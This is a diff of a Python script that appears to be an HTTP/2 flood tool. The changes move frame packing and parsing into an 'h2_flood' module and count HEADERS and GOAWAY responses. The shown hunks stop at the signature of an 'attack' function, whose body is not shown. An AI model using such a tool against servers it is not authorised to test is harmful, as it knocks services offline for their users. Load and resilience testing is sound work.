@@ -28,8 +28,7 @@ import threading
 import time
 
 
-def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+from h2_flood import frame, split_frames
 
 
 def literal(name: bytes, value: bytes) -> bytes:
@@ -101,17 +100,13 @@ def read_for(sock: socket.socket, deadline: float, result: dict, lock: threading
             return
         if not data:
             return
-        buf += data
-        while len(buf) >= 9:
-            length = int.from_bytes(buf[:3], "big")
-            if len(buf) < 9 + length:
-                break
-            with lock:
-                if buf[3] == 0x1:
+        frames, buf = split_frames(buf + data)
+        with lock:
+            for kind, payload in frames:
+                if kind == 0x1:
                     result["headers"] += 1
-                if buf[3] == 0x7 and length >= 8:
-                    result["goaway_codes"].append(int.from_bytes(buf[13:17], "big"))
-            buf = buf[9 + length:]
+                if kind == 0x7 and len(payload) >= 8:
+                    result["goaway_codes"].append(int.from_bytes(payload[4:8], "big"))
 
 
 def attack(host: str, port: int, mode: str, n: int, seconds: float, result: dict, lock) -> None:
